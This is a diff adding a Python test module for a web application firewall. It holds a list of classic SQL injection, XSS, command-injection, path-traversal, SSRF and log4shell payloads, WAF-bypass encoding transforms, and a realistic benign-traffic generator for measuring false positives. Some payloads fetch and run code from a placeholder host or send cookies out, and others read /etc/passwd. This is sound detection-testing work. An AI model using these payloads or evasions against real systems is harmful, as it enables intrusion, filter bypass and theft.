@@ -1,0 +1,452 @@
+"""Adversarial quality corpora — evasion transforms + realistic benign.
+
+VERDICT r03 missing #3: the stock corpus (`utils/corpus.py`) is generated
+from the same family definitions the rules were authored against, so
+F1=1.0 on it is nearly tautological.  This module provides the
+NON-self-referential side of the evaluation, modeled on how the reference
+is actually attacked in the field (SURVEY.md §4 WAF smoke tier — known
+payloads fired through the deployed ingress):
+
+* ``classic_payloads()`` — well-known public attack strings (sqlmap-,
+  XSS-cheat-sheet-, shellshock-, log4shell-style).  None of them are
+  drawn from ``compiler/sigpack.py`` templates or ``rules/crs/*.conf``
+  regexes; several are deliberately phrased differently from anything a
+  rule template expands to.
+* evasion transforms — the classic WAF-bypass encodings: double URL
+  encoding, overlong UTF-8, HTML-entity splicing, SQL comment splitting
+  (``UN/**/ION``), case churn, whitespace churn, null-byte splicing,
+  %uXXXX IIS-style encoding.  Applied alone and in aggressive pairs.
+* ``generate_benign(n)`` — ≥10k realistic non-attack requests (form
+  posts, JSON APIs, base64-blob cookies, JWTs, natural language that
+  *mentions* SQL keywords, HTML-ish prose, code snippets in paste
+  bodies) for a false-positive-rate measurement.
+
+The output feeds ``utils/quality_report.py`` → ``reports/QUALITY.json``
+and the pins in ``tests/test_quality.py``.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import random
+from dataclasses import dataclass
+from typing import Callable, Dict, List, Optional, Sequence, Tuple
+
+from ingress_plus_tpu.serve.normalize import Request
+from ingress_plus_tpu.utils.corpus import LabeledRequest
+
+# --------------------------------------------------------------------------
+# Classic payloads (public-knowledge attack strings; NOT template output)
+# --------------------------------------------------------------------------
+
+#: (class, name, payload, context) — context steers placement + which
+#: transforms make sense ("query" payloads survive URL encoding games;
+#: "html" payloads are where entity splicing is realistic).
+CLASSIC: List[Tuple[str, str, str, str]] = [
+    # --- SQLi: sqlmap/boolean/union/time/error/stacked shapes
+    ("sqli", "boolean_or", "x' OR 3*2=6 AND 000221=000221 --", "query"),
+    ("sqli", "union_null", "') UNION SELECT NULL,NULL,NULL,NULL--", "query"),
+    ("sqli", "union_cols",
+     "-5305' UNION ALL SELECT 77,group_concat(schema_name),88 FROM "
+     "information_schema.schemata#", "query"),
+    ("sqli", "time_blind",
+     "1' AND (SELECT 8555 FROM (SELECT(SLEEP(5)))abcd)-- qKzB", "query"),
+    ("sqli", "error_extract",
+     "' AND updatexml(rand(),concat(CHAR(126),version()),null)-- -", "query"),
+    ("sqli", "stacked_shutdown", "1'; WAITFOR DELAY '0:0:5'--", "query"),
+    ("sqli", "order_by_probe", "1' ORDER BY 9999-- -", "query"),
+    ("sqli", "benchmark_blind",
+     "1 AND BENCHMARK(5000000,MD5(0x414243))", "query"),
+    ("sqli", "into_outfile",
+     "' UNION SELECT 0x3c3f706870 INTO OUTFILE '/var/www/x.php'--", "query"),
+    ("sqli", "pg_sleep", "'||(SELECT pg_sleep(5))||'", "query"),
+    ("sqli", "hex_literal", "0x31 UNION SELECT load_file(0x2f6574632f706173737764)",
+     "query"),
+    ("sqli", "having_probe", "1 HAVING 1=1", "query"),
+    # --- XSS: cheat-sheet shapes
+    ("xss", "img_onerror_tick", "<img src=`x` onerror=alert(document.domain)>",
+     "html"),
+    ("xss", "svg_animate",
+     "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "html"),
+    ("xss", "details_toggle", "<details open ontoggle=alert(origin)>", "html"),
+    ("xss", "input_autofocus", "<input autofocus onfocus=alert(1)>", "html"),
+    ("xss", "polyglot_jsfuck",
+     "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//", "html"),
+    ("xss", "template_literal", "<script>fetch(`//x.example/${document.cookie}`)"
+     "</script>", "html"),
+    ("xss", "marquee", "<marquee onstart=confirm(1)>", "html"),
+    ("xss", "data_uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+     "query"),
+    # --- RCE / command injection
+    ("rce", "subshell_ifs", ";${IFS}cat${IFS}/etc/passwd", "query"),
+    ("rce", "backtick_id", "`id>/tmp/o`", "query"),
+    ("rce", "pipe_curl_sh", "||curl -s http://198.51.100.7/a|sh", "query"),
+    ("rce", "shellshock_ua", "() { :;}; echo; /usr/bin/id", "header"),
+    ("rce", "log4shell_lower",
+     "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://198.51.100.7/x}",
+     "query"),
+    ("rce", "python_os", "__import__('os').popen('id').read()", "query"),
+    ("rce", "busybox_wget", ";busybox wget http://198.51.100.7/mips -O /tmp/m",
+     "query"),
+    # --- LFI / path traversal
+    ("lfi", "dotdot_16", "../" * 16 + "etc/passwd", "query"),
+    ("lfi", "dotdot_backslash", "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
+     "query"),
+    ("lfi", "proc_cmdline", "/proc/self/cmdline", "query"),
+    ("lfi", "zip_wrapper", "zip://upload/avatar.jpg%23shell.php", "query"),
+    ("lfi", "expect_wrapper", "expect://id", "query"),
+    # --- SSRF / RFI
+    ("rfi", "metadata_alias", "http://[::ffff:169.254.169.254]/latest/meta-data/",
+     "query"),
+    ("rfi", "decimal_ip", "http://2130706433/admin", "query"),
+    ("rfi", "dict_proto", "dict://127.0.0.1:11211/stats", "query"),
+    # --- PHP injection
+    ("php", "assert_call", "assert(stripos(file_get_contents('/etc/passwd'),'root'))",
+     "query"),
+    ("php", "preg_e", "preg_replace('/x/e','system(\"id\")','x')", "query"),
+    # --- deserialization / java — context "b64": case/whitespace churn
+    # would break the base64 magic server-side too, so those are not
+    # evasions of THIS payload; only URL encoding survives a decode
+    ("java", "ysoserial_prefix", "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u",
+     "b64"),
+    ("java", "el_injection", "${T(java.lang.Runtime).getRuntime().exec('id')}",
+     "query"),
+    # --- NoSQL
+    ("sqli", "nosql_ne", '{"username": {"$ne": null}, "password": {"$ne": null}}',
+     "body"),
+    ("sqli", "nosql_where", '{"$where": "this.password.match(/^a/)"}', "body"),
+]
+
+# --------------------------------------------------------------------------
+# Evasion transforms
+# --------------------------------------------------------------------------
+
+
+def _pct(b: int) -> str:
+    return "%%%02x" % b
+
+
+def t_urlencode_full(p: str, rng: random.Random) -> str:
+    """Percent-encode every byte once (decoders un-do this; naive
+    substring filters that never decode do not)."""
+    return "".join(_pct(b) for b in p.encode("utf-8", "surrogateescape"))
+
+
+def t_double_url(p: str, rng: random.Random) -> str:
+    """Double URL encoding: %27 → %2527.  A WAF that decodes once sees
+    ``%27``; the backend that decodes twice sees ``'``."""
+    once = "".join(_pct(b) if not (chr(b).isalnum()) else chr(b)
+                   for b in p.encode("utf-8", "surrogateescape"))
+    return once.replace("%", "%25")
+
+
+def t_overlong_utf8(p: str, rng: random.Random) -> str:
+    """Overlong 2-byte UTF-8 of ASCII metacharacters, percent-encoded:
+    ``'`` (0x27) → C0 A7 → %c0%a7.  Decoders that accept overlong forms
+    (old IIS/PHP) map it back; strict decoders reject it."""
+    out = []
+    for ch in p:
+        b = ord(ch)
+        if b < 0x80 and not ch.isalnum() and rng.random() < 0.9:
+            out.append("%%c%x%%%02x" % (b >> 6, 0x80 | (b & 0x3F)))
+        else:
+            out.append(ch)
+    return "".join(out)
+
+
+def t_html_entities(p: str, rng: random.Random) -> str:
+    """Splice decimal/hex entities into HTML-context payloads:
+    ``<img`` → ``<im&#x67;`` — browsers decode entities in attribute
+    values; naive scanners see broken tokens."""
+    out = []
+    for ch in p:
+        if ch.isalpha() and rng.random() < 0.3:
+            out.append("&#x%x;" % ord(ch) if rng.random() < 0.5
+                       else "&#%d;" % ord(ch))
+        else:
+            out.append(ch)
+    return "".join(out)
+
+
+_SQL_KEYWORDS = ("UNION", "SELECT", "FROM", "WHERE", "AND", "OR", "ORDER",
+                 "INSERT", "UPDATE", "DELETE", "SLEEP", "BENCHMARK",
+                 "WAITFOR", "HAVING", "union", "select", "from", "and", "or")
+
+
+def t_sql_comment_split(p: str, rng: random.Random) -> str:
+    """Classic ``UN/**/ION`` splitting: inline comments inside and between
+    SQL keywords (MySQL versioned-comment dialects tolerate both)."""
+    for kw in _SQL_KEYWORDS:
+        if kw in p and len(kw) > 3:
+            cut = rng.randrange(2, len(kw) - 1)
+            p = p.replace(kw, kw[:cut] + "/**/" + kw[cut:], 1)
+    return p.replace(" ", "/**/") if rng.random() < 0.5 else p
+
+
+def t_case_churn(p: str, rng: random.Random) -> str:
+    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in p)
+
+
+_WS_SUBS = ["\t", "\n", "\r", "\x0b", "\x0c", "%09", "%0a", "%0d", "+"]
+
+
+def t_whitespace_churn(p: str, rng: random.Random) -> str:
+    return "".join(rng.choice(_WS_SUBS) if c == " " else c for c in p)
+
+
+def t_null_splice(p: str, rng: random.Random) -> str:
+    """%00 splicing — C-string-based scanners truncate at the NUL."""
+    words = p.split(" ")
+    out = []
+    for w in words:
+        if len(w) > 4 and rng.random() < 0.5:
+            cut = rng.randrange(1, len(w))
+            w = w[:cut] + "%00" + w[cut:]
+        out.append(w)
+    return " ".join(out)
+
+
+def t_iis_unicode(p: str, rng: random.Random) -> str:
+    """%uXXXX (IIS) encoding of metacharacters."""
+    return "".join("%%u%04x" % ord(c) if not c.isalnum() and rng.random() < 0.8
+                   else c for c in p)
+
+
+TRANSFORMS: Dict[str, Callable[[str, random.Random], str]] = {
+    "urlencode_full": t_urlencode_full,
+    "double_url": t_double_url,
+    "overlong_utf8": t_overlong_utf8,
+    "html_entities": t_html_entities,
+    "sql_comment_split": t_sql_comment_split,
+    "case_churn": t_case_churn,
+    "whitespace_churn": t_whitespace_churn,
+    "null_splice": t_null_splice,
+    "iis_unicode": t_iis_unicode,
+}
+
+#: which transforms are *realistic* for which payload context — entity
+#: splicing a shell command is noise, not an evasion
+_CTX_TRANSFORMS = {
+    "query": ["urlencode_full", "double_url", "overlong_utf8",
+              "sql_comment_split", "case_churn", "whitespace_churn",
+              "null_splice", "iis_unicode"],
+    "html": ["urlencode_full", "double_url", "html_entities", "case_churn",
+             "whitespace_churn", "null_splice"],
+    "body": ["case_churn", "whitespace_churn"],
+    "header": ["case_churn", "whitespace_churn"],
+    "b64": ["urlencode_full"],
+}
+
+#: aggressive second-stage pairings (first applied, then second)
+_PAIRS = [
+    ("case_churn", "urlencode_full"),
+    ("sql_comment_split", "case_churn"),
+    ("whitespace_churn", "double_url"),
+    ("case_churn", "iis_unicode"),
+    ("sql_comment_split", "urlencode_full"),
+]
+
+
+@dataclass
+class EvasionSample:
+    labeled: LabeledRequest
+    base_name: str          # which CLASSIC payload
+    transforms: Tuple[str, ...]
+
+
+def _place(payload: str, context: str, cls: str, name: str, i: int,
+           rng: random.Random) -> Request:
+    headers = {"host": "shop.example.com",
+               "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0"}
+    rid = "evasion-%s-%s-%d" % (cls, name, i)
+    if context == "header":
+        headers["user-agent"] = payload
+        return Request(uri="/index.html", headers=headers, request_id=rid)
+    if context == "body" or (context == "query" and rng.random() < 0.3):
+        body = ("comment=" + payload).encode("utf-8", "surrogateescape")
+        headers["content-length"] = str(len(body))
+        headers["content-type"] = "application/x-www-form-urlencoded"
+        return Request(method="POST", uri="/api/v1/comments", headers=headers,
+                       body=body, request_id=rid)
+    return Request(uri="/search?q=" + payload.replace(" ", "+"),
+                   headers=headers, request_id=rid)
+
+
+def generate_evasion(seed: int = 20260730,
+                     per_payload_singles: Optional[int] = None
+                     ) -> List[EvasionSample]:
+    """Every CLASSIC payload: plain, then each context-appropriate single
+    transform, then the aggressive pairs.  Deterministic."""
+    rng = random.Random(seed)
+    out: List[EvasionSample] = []
+    i = 0
+    for cls, name, payload, context in CLASSIC:
+        variants: List[Tuple[Tuple[str, ...], str]] = [((), payload)]
+        singles = _CTX_TRANSFORMS[context]
+        if per_payload_singles is not None:
+            singles = singles[:per_payload_singles]
+        for tname in singles:
+            variants.append(((tname,), TRANSFORMS[tname](payload, rng)))
+        for a, b in _PAIRS:
+            if a in _CTX_TRANSFORMS[context] and b in _CTX_TRANSFORMS[context]:
+                variants.append(
+                    ((a, b), TRANSFORMS[b](TRANSFORMS[a](payload, rng), rng)))
+        for tnames, text in variants:
+            req = _place(text, context, cls, name, i, rng)
+            out.append(EvasionSample(
+                labeled=LabeledRequest(request=req, is_attack=True,
+                                       attack_class=cls),
+                base_name=name, transforms=tnames))
+            i += 1
+    return out
+
+
+# --------------------------------------------------------------------------
+# Benign corpus — realistic traffic that *stresses* the rules
+# --------------------------------------------------------------------------
+
+_NL_SENTENCES = [
+    "I will select the best option from the union of both lists",
+    "the committee decided to table the update until the next meeting",
+    "please drop by the office and pick up your order",
+    "we should group by category and then order by price",
+    "script for the school play, act one scene two",
+    "the alert was a false alarm, all systems normal",
+    "insert coin to continue playing the arcade classic",
+    "delete my account if I am inactive for two years",
+    "where and when should we meet for coffee",
+    "my password hint is my first cat's name",
+    "use the concat function in the spreadsheet to join cells",
+    "the etc folder on the shelf has misc paperwork",
+    "wait for delay at the station, train was late",
+    "on error the printer retries the current job",
+    "x or y, and sometimes both, depending on the case",
+]
+_CODEY_SNIPPETS = [
+    "for (let i = 0; i < n; i++) total += prices[i];",
+    "SELECT is my favorite SQL keyword, said no one ever",
+    "if x > 3 && y < 10 then print('ok') end",
+    "a = b || c; // default fallback",
+    "echo $PATH shows your shell search path",
+    "df = df.groupby('region').agg({'sales': 'sum'})",
+    "render(<App user={user} />, document.getElementById('root'))",
+    "UPDATE 2026-07-30: release notes moved to /docs/changelog",
+]
+_JSON_BODIES = [
+    lambda r: json.dumps({"name": r.choice(["Ana", "Bo", "Chen", "Dee"]),
+                          "bio": r.choice(_NL_SENTENCES),
+                          "age": r.randrange(18, 90)}),
+    lambda r: json.dumps({"items": [{"sku": "K-%d" % r.randrange(999),
+                                     "qty": r.randrange(1, 9)}
+                                    for _ in range(r.randrange(1, 4))],
+                          "coupon": "SAVE%d" % r.randrange(5, 50)}),
+    lambda r: json.dumps({"query": r.choice(_NL_SENTENCES),
+                          "filters": {"from": "2026-01-01",
+                                      "price": {"lte": r.randrange(10, 500)}}}),
+    lambda r: json.dumps({"paste": r.choice(_CODEY_SNIPPETS),
+                          "lang": r.choice(["js", "sql", "sh", "py"])}),
+    lambda r: json.dumps({"markdown": "# Notes\n\n* " +
+                          "\n* ".join(r.sample(_NL_SENTENCES, 3))}),
+]
+_FORM_BODIES = [
+    lambda r: "comment=" + r.choice(_NL_SENTENCES).replace(" ", "+") +
+              "&rating=%d" % r.randrange(1, 6),
+    lambda r: "title=" + r.choice(["Re: order", "Question", "5 < 10 deal"]
+                                  )[:30].replace(" ", "+") +
+              "&body=" + r.choice(_CODEY_SNIPPETS).replace(" ", "+").replace(
+                  "&", "%26"),
+    lambda r: "email=user%d@example.com&subscribe=on" % r.randrange(9999),
+    lambda r: "address=12%2FB+Baker+Street%2C+Flat+3&city=London",
+]
+
+
+def _b64_blob(rng: random.Random, n: int) -> str:
+    return base64.b64encode(bytes(rng.getrandbits(8) for _ in range(n))
+                            ).decode().rstrip("=")
+
+
+def _jwt(rng: random.Random) -> str:
+    h = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode(
+        ).rstrip("=")
+    p = base64.urlsafe_b64encode(json.dumps(
+        {"sub": rng.randrange(10**6), "iat": 1753800000,
+         "scope": "read write"}).encode()).decode().rstrip("=")
+    return "%s.%s.%s" % (h, p, _b64_blob(rng, 32))
+
+
+def generate_benign(n: int = 10_000, seed: int = 20260731
+                    ) -> List[LabeledRequest]:
+    """Realistic benign traffic for the FP-rate leg.  Heavier on the
+    shapes that false-positive real WAFs: base64 cookie blobs (random
+    bytes sail past b64 alphabets into rule territory once decoded),
+    natural language with SQL keywords, code snippets in paste bodies,
+    angle brackets in prose."""
+    rng = random.Random(seed)
+    out: List[LabeledRequest] = []
+    for i in range(n):
+        kind = rng.random()
+        headers = {"host": "shop.example.com",
+                   "user-agent": rng.choice([
+                       "Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0",
+                       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5) Safari/604.1",
+                       "curl/8.5.0", "python-requests/2.32.0",
+                       "Googlebot/2.1 (+http://www.google.com/bot.html)"])}
+        if rng.random() < 0.55:
+            headers["cookie"] = rng.choice([
+                lambda: "session=%s" % _b64_blob(rng, rng.randrange(24, 96)),
+                lambda: "jwt=%s" % _jwt(rng),
+                lambda: "prefs=%s; _ga=GA1.2.%d.%d" % (
+                    _b64_blob(rng, 12), rng.randrange(10**9),
+                    rng.randrange(10**9)),
+                lambda: "cart=" + "%2C".join(
+                    "K-%d" % rng.randrange(999)
+                    for _ in range(rng.randrange(1, 5))),
+            ])()
+        if rng.random() < 0.4:
+            headers["referer"] = rng.choice([
+                "https://www.google.com/search?q=best+laptop+2026",
+                "https://shop.example.com/products?sort=-price&page=2",
+                "https://news.site/article/a-select-few-unions-grow",
+            ])
+        method, uri, body = "GET", "/", b""
+        if kind < 0.35:   # browsing / search
+            uri = rng.choice([
+                "/search?q=" + rng.choice(_NL_SENTENCES).replace(" ", "+"),
+                "/products/%d?ref=%s" % (rng.randrange(10**5),
+                                         _b64_blob(rng, 9)),
+                "/blog/2026/%02d/%s" % (rng.randrange(1, 13),
+                                        rng.choice(["scaling-etl",
+                                                    "sql-vs-nosql",
+                                                    "xss-prevention-guide"])),
+                "/docs/api#select-endpoints",
+                "/calendar?from=2026-07-01&to=2026-07-31&tz=Europe%2FBerlin",
+                "/files/report%202026%20final.pdf",
+            ])
+        elif kind < 0.6:  # JSON API
+            method = "POST"
+            uri = rng.choice(["/api/v1/orders", "/api/v1/search",
+                              "/api/v1/profiles", "/api/v2/pastes"])
+            body = rng.choice(_JSON_BODIES)(rng).encode()
+            headers["content-type"] = "application/json"
+            headers["content-length"] = str(len(body))
+        elif kind < 0.8:  # form post
+            method = "POST"
+            uri = rng.choice(["/comments", "/contact", "/newsletter",
+                              "/account/address"])
+            body = rng.choice(_FORM_BODIES)(rng).encode()
+            headers["content-type"] = "application/x-www-form-urlencoded"
+            headers["content-length"] = str(len(body))
+        elif kind < 0.9:  # API GET with tokens
+            uri = ("/api/v1/me?fields=name,email&access_token="
+                   + _jwt(rng))
+            headers["authorization"] = "Bearer " + _jwt(rng)
+        else:             # static
+            uri = rng.choice(["/static/app.%s.js" % _b64_blob(rng, 6),
+                              "/images/hero@2x.png", "/favicon.ico",
+                              "/fonts/inter-var.woff2"])
+        out.append(LabeledRequest(
+            request=Request(method=method, uri=uri, headers=headers,
+                            body=body, request_id="benign-q-%d" % i),
+            is_attack=False))
+    return out
